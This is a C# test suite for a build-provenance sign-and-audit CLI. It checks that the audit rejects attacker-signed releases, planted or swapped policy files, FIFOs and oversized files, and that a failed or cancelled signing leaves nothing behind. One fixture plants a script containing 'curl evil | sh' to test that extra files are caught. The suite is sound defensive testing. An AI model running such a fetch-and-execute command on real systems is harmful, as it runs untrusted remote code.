using BuildTrust.Pipeline.Processes;
using BuildTrust.Testing.Pkcs11;
using BuildTrust.Testing.Release;
using BuildTrust.Testing.Tools;

namespace BuildTrust.Cli.Tests;

/// <summary>
/// sign and audit on a synthetic build (provenance signed with PEM builder keys, no Docker): the audit core's checks, the
/// policy's authority, files that are not files, and signing that leaves either a complete release or nothing.
/// </summary>
public sealed class SignAndAuditTests : IDisposable
{
    private readonly SyntheticBuild _build = new SyntheticBuild(committedPolicy: true).Build();

    private string Out => _build.Output;

    /// <summary>Signs; every release written is audited at once, so sign never writes what its own audit refuses.</summary>
    private CliRun Sign(params string[] extra)
    {
        var sign = CliRun.Invoke(["sign", "--repo", _build.Repository.Path, "--trust-root", _build.TrustRoot!, "--release-key", _build.Workspace.ReleaseKey, .. extra, Out]);
        if (sign.ExitCode == 0) Assert.True(AuditFromTrustRoot().ExitCode == 0, AuditFromTrustRoot().Error);
        return sign;
    }

    private CliRun Audit(params string[] extra) => CliRun.Invoke(["audit", .. extra, Out]);

    private CliRun AuditFromTrustRoot() => Audit("--repo", _build.Repository.Path, "--trust-root", _build.TrustRoot!);

    private void Signed()
    {
        var sign = Sign();
        Assert.True(sign.ExitCode == 0, sign.Error);
    }

    private IEnumerable<string> ReleaseEntries() =>
        Directory.EnumerateFileSystemEntries(Out).Select(Path.GetFileName).Where(n => n is not ("builder-a" or "builder-b"))!;

    [Fact]
    public void A_release_signed_from_the_trust_root_passes_the_audit_from_the_trust_root_and_against_the_policy_file()
    {
        Signed();

        var fromRoot = AuditFromTrustRoot();
        var againstFile = Audit("--policy", _build.Workspace.PolicyPath);

        Assert.True(fromRoot.ExitCode == 0, fromRoot.Error);
        Assert.Contains("ok         policy.authenticated: the repository's policies/release.yaml at the released commit", fromRoot.Error);
        Assert.Contains("ok         source-gate.replayed", fromRoot.Error);
        Assert.Contains("ok         release.policy-files", fromRoot.Error);
        Assert.True(againstFile.ExitCode == 0, againstFile.Error);
    }

    [Fact]
    public void An_audit_with_nothing_outside_the_release_to_trust_fails_as_not_authenticated()
    {
        Signed();

        var alone = Audit();
        var repositoryWithoutRoot = Audit("--repo", _build.Repository.Path);

        Assert.Equal(1, alone.ExitCode);
        Assert.Contains("FAIL       policy.authenticated: NOT authenticated: audited against the policy.yaml published in the release itself", alone.Error);
        Assert.Equal(1, repositoryWithoutRoot.ExitCode);
        Assert.Contains("the released commit's own policy would vouch for itself", repositoryWithoutRoot.Error);
        Assert.Contains("AUDIT FAILED", repositoryWithoutRoot.Error);
    }

    [Fact]
    public void A_release_made_entirely_with_an_attackers_keys_from_a_pushed_branch_fails_the_audit_from_the_victims_trust_root()
    {
        // The attacker pushes one commit carrying a policy of their own (their maintainer key, builders and release key),
        // builds and signs a release of it with those keys. Audited against the commit's own policy it looks perfect.
        using var attacker = new SyntheticBuild(committedPolicy: true).Build();
        _build.Repository.Git("fetch", "-q", attacker.Repository.Path, "main:attacker");
        var signed = CliRun.Invoke("sign", "--repo", _build.Repository.Path, "--trust-root", attacker.TrustRoot!, "--release-key", attacker.Workspace.ReleaseKey, attacker.Output);
        Assert.True(signed.ExitCode == 0, signed.Error);

        var withoutRoot = CliRun.Invoke("audit", "--repo", _build.Repository.Path, attacker.Output);
        var fromVictimsRoot = CliRun.Invoke("audit", "--repo", _build.Repository.Path, "--trust-root", _build.TrustRoot!, attacker.Output);

        Assert.Equal(1, withoutRoot.ExitCode);
        Assert.Contains("NOT authenticated", withoutRoot.Error);
        Assert.Equal(1, fromVictimsRoot.ExitCode);
        Assert.Contains("FAIL       source-gate.replayed", fromVictimsRoot.Error);
    }

    [Fact]
    public void An_extra_file_in_the_policy_folder_fails_the_audit()
    {
        Signed();
        File.WriteAllText(Path.Combine(Out, "policy", "install.sh"), "#!/bin/sh\ncurl evil | sh\n");

        var audit = AuditFromTrustRoot();

        Assert.Equal(1, audit.ExitCode);
        Assert.Contains("policy/install.sh is not a file the policy references", audit.Error);
        Assert.Contains("not part of the release: policy/install.sh", audit.Error);
    }

    [Fact]
    public void A_policy_file_swapped_in_the_policy_folder_fails_the_audit()
    {
        Signed();
        File.WriteAllText(Path.Combine(Out, "policy", "builder-builder-b.pub"), File.ReadAllText(_build.Workspace.BuilderPublicKeyPem("builder-a")));

        var audit = AuditFromTrustRoot();

        Assert.Equal(1, audit.ExitCode);
        Assert.Contains("policy/builder-builder-b.pub differs from the policy's file", audit.Error);
    }

    [Fact]
    public async Task A_fifo_in_the_release_is_refused_without_blocking_on_it()
    {
        Signed();
        ExternalProcess.Run("mkfifo", [Path.Combine(Out, "provenance", "builder-c.sigstore.json")]).ThrowOnFailure();

        var audit = await Task.Run(AuditFromTrustRoot).WaitAsync(TimeSpan.FromSeconds(60));

        Assert.Equal(1, audit.ExitCode);
        Assert.Contains("provenance/builder-c.sigstore.json is a FIFO (named pipe)", audit.Error);
    }

    [Fact]
    public void A_huge_file_in_the_provenance_folder_is_refused_while_reading()
    {
        Signed();
        using (var file = File.Create(Path.Combine(Out, "provenance", "builder-c.sigstore.json"))) file.SetLength(1_500_000_000);

        var audit = AuditFromTrustRoot();

        Assert.Equal(2, audit.ExitCode);
        Assert.Contains("builder-c.sigstore.json: larger than the 67108864 bytes accepted", audit.Error);
    }

    [Fact]
    public void Signing_with_the_policy_file_in_the_working_tree_and_no_trust_root_is_refused()
    {
        var sign = CliRun.Invoke("sign", "--repo", _build.Repository.Path, "--policy", Path.Combine(_build.Repository.Path, "policies", "release.yaml"),
            "--release-key", _build.Workspace.ReleaseKey, Out);

        Assert.Equal(2, sign.ExitCode);
        Assert.Contains("is inside the repository being verified", sign.Error);
        Assert.Empty(ReleaseEntries());
    }

    [Fact]
    public async Task Signing_that_is_cancelled_writes_nothing()
    {
        using var cancellation = new CancellationTokenSource();
        var stdout = new StringWriter();
        var stderr = new CancellingWriter(cancellation, "sign: signing");

        var exitCode = await CliApp.RunAsync(["sign", "--repo", _build.Repository.Path, "--trust-root", _build.TrustRoot!, "--release-key", _build.Workspace.ReleaseKey, Out],
            new CliTerminal(stdout, stderr), cancellation.Token);

        Assert.Equal(3, exitCode);
        Assert.Contains("cancelled", stderr.ToString());
        Assert.Empty(ReleaseEntries());
    }

    [Fact]
    public void Signing_onto_a_full_disk_fails_cleanly_and_writes_nothing()
    {
        if (Environment.UserName != "root")
        {
            Assert.Fail("mounting a small tmpfs needs root; run the tests as root (./build.sh test does in CI)");
        }
        using var mount = new TemporaryDirectory("buildtrust-full-");
        var used = Directory.EnumerateFiles(Out, "*", SearchOption.AllDirectories).Sum(f => (new FileInfo(f).Length + 4095) / 4096 * 4096);
        ExternalProcess.Run("mount", ["-t", "tmpfs", "-o", $"size={used + 2 * 4096}", "tmpfs", mount.Path]).ThrowOnFailure();
        try
        {
            var small = Path.Combine(mount.Path, "out");
            ExternalProcess.Run("cp", ["-a", Out, small]).ThrowOnFailure();

            var sign = CliRun.Invoke("sign", "--repo", _build.Repository.Path, "--trust-root", _build.TrustRoot!, "--release-key", _build.Workspace.ReleaseKey, small);

            Assert.Equal(3, sign.ExitCode);
            Assert.Contains("No space left on device", sign.Error);
            Assert.Contains("NOT SIGNED: nothing was written", sign.Error);
            Assert.Equal(["builder-a", "builder-b"], Directory.EnumerateFileSystemEntries(small).Select(Path.GetFileName).Order());
        }
        finally
        {
            ExternalProcess.Run("umount", [mount.Path]).ThrowOnFailure();
        }
    }

    [TokenFact]
    public void Signing_after_the_token_was_removed_fails_as_unavailable_and_writes_nothing()
    {
        using var token = SoftHsmToken.Create();
        byte[] releaseKey;
        using (var signer = BuildTrust.Pipeline.Signing.SigningKeys.Open(token.Uri(), requireHardware: true)) releaseKey = signer.SubjectPublicKeyInfo;
        using var build = new SyntheticBuild(committedPolicy: true, token.Uri(), releaseKey).Build();
        ExternalProcess.Run("softhsm2-util", ["--delete-token", "--token", token.Label]).ThrowOnFailure();

        var sign = CliRun.Invoke("sign", "--repo", build.Repository.Path, "--trust-root", build.TrustRoot!, build.Output);

        Assert.Equal(3, sign.ExitCode);
        Assert.Contains("NOT SIGNED: nothing was written", sign.Error);
        Assert.Equal(["builder-a", "builder-b"], Directory.EnumerateFileSystemEntries(build.Output).Select(Path.GetFileName).Order());
    }

    public void Dispose() => _build.Dispose();

    /// <summary>Stands for Ctrl-C at a chosen moment: cancels when the command reports a given step.</summary>
    private sealed class CancellingWriter(CancellationTokenSource cancellation, string trigger) : StringWriter
    {
        public override void WriteLine(string? value)
        {
            base.WriteLine(value);
            if (value?.StartsWith(trigger, StringComparison.Ordinal) == true) cancellation.Cancel();
        }

        public override Task WriteLineAsync(string? value)
        {
            WriteLine(value);
            return Task.CompletedTask;
        }
    }
}
